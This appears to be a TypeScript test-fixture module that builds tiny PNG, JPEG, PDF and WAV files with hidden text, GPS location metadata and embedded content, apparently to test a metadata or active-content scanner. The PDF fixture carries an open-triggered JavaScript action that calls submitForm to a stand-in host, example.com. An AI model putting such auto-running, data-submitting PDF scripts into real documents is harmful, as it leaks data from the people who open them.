import { deflateSync } from 'node:zlib';

const text = (words: string) => Buffer.from(words, 'latin1');

function big32(value: number): Buffer {
  const four = Buffer.alloc(4);
  four.writeUInt32BE(value);
  return four;
}

function crc32(bytes: Buffer): number {
  let value = 0xffffffff;
  for (const byte of bytes) {
    value ^= byte;
    for (let bit = 0; bit < 8; bit += 1) value = value & 1 ? (value >>> 1) ^ 0xedb88320 : value >>> 1;
  }
  return (value ^ 0xffffffff) >>> 0;
}

function pngChunk(name: string, data: Buffer): Buffer {
  const named = Buffer.concat([text(name), data]);
  return Buffer.concat([big32(data.length), named, big32(crc32(named))]);
}

/** A grey PNG of 4 by 4 pixels that says something in a text chunk. */
export function pngSaying(words: string): Buffer {
  const size = Buffer.concat([big32(4), big32(4), Buffer.from([8, 0, 0, 0, 0])]);
  const rows = Buffer.alloc(4 * 5, 0x60);
  for (let row = 0; row < 4; row += 1) rows[row * 5] = 0;
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    pngChunk('IHDR', size),
    pngChunk('tEXt', text(`Comment\0${words}`)),
    pngChunk('IDAT', deflateSync(rows)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** 52 degrees 42 minutes 27 seconds, in numbers that stand nowhere else. */
export const LATITUDE = Buffer.from('b2ee1f0301000000b256870201000000b2bea20101000000', 'hex');

/** A photograph (a JPEG) that also says where it was taken. */
export function photographWithPlace(picture: Buffer): Buffer {
  const entry = (tag: number, type: number, count: number, value: Buffer) => {
    const bytes = Buffer.alloc(12);
    bytes.writeUInt16LE(tag, 0);
    bytes.writeUInt16LE(type, 2);
    bytes.writeUInt32LE(count, 4);
    value.copy(bytes, 8);
    return bytes;
  };
  const little32 = (value: number) => {
    const four = Buffer.alloc(4);
    four.writeUInt32LE(value);
    return four;
  };
  const gpsAt = 8 + 2 + 12 + 4;
  const valuesAt = gpsAt + 2 + 24 + 4;
  const tiff = Buffer.concat([
    text('II*\0'),
    little32(8),
    Buffer.from([1, 0]),
    entry(0x8825, 4, 1, little32(gpsAt)),
    little32(0),
    Buffer.from([2, 0]),
    entry(1, 2, 2, text('N\0\0\0')),
    entry(2, 5, 3, little32(valuesAt)),
    little32(0),
    LATITUDE,
  ]);
  const body = Buffer.concat([text('Exif\0\0'), tiff]);
  const length = Buffer.from([(body.length + 2) >> 8, (body.length + 2) & 255]);
  return Buffer.concat([
    picture.subarray(0, 2),
    Buffer.from([0xff, 0xe1]),
    length,
    body,
    picture.subarray(2),
  ]);
}

/** A PDF of one page that draws some words, and has a script that would put others into its title. */
export function pdfSaying(words: string): Buffer {
  const draw = `BT /F1 18 Tf 40 100 Td (${words}) Tj ET`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${draw.length} >>\nstream\n${draw}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Type /Action /S /JavaScript /JS (app.alert\\("run"\\); this.submitForm\\("https://example.com"\\);) >>',
  ];
  let file = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const at = file.length;
    file += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const table = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  const xref = file.length;
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}`;
  file += `trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return text(file);
}

/** Half a second of a tone, and a comment behind it. */
export function wavSaying(words: string): Buffer {
  const samples = Buffer.alloc(8000);
  for (let at = 0; at < 4000; at += 1) samples.writeInt16LE(Math.round(8000 * Math.sin(at / 6)), at * 2);
  const comment = Buffer.concat([text(words), Buffer.alloc(words.length % 2)]);
  const header = Buffer.alloc(36);
  header.write('RIFF', 0, 'latin1');
  header.writeUInt32LE(36 + 8 + samples.length + 8 + comment.length, 4);
  header.write('WAVEfmt ', 8, 'latin1');
  header.writeUInt32LE(16, 16);
  header.writeUInt16LE(1, 20);
  header.writeUInt16LE(1, 22);
  header.writeUInt32LE(8000, 24);
  header.writeUInt32LE(16_000, 28);
  header.writeUInt16LE(2, 32);
  header.writeUInt16LE(16, 34);
  const chunk = (name: string, data: Buffer) => {
    const head = Buffer.alloc(8);
    head.write(name, 0, 'latin1');
    head.writeUInt32LE(data.length, 4);
    return Buffer.concat([head, data]);
  };
  return Buffer.concat([header, chunk('data', samples), chunk('note', comment)]);
}
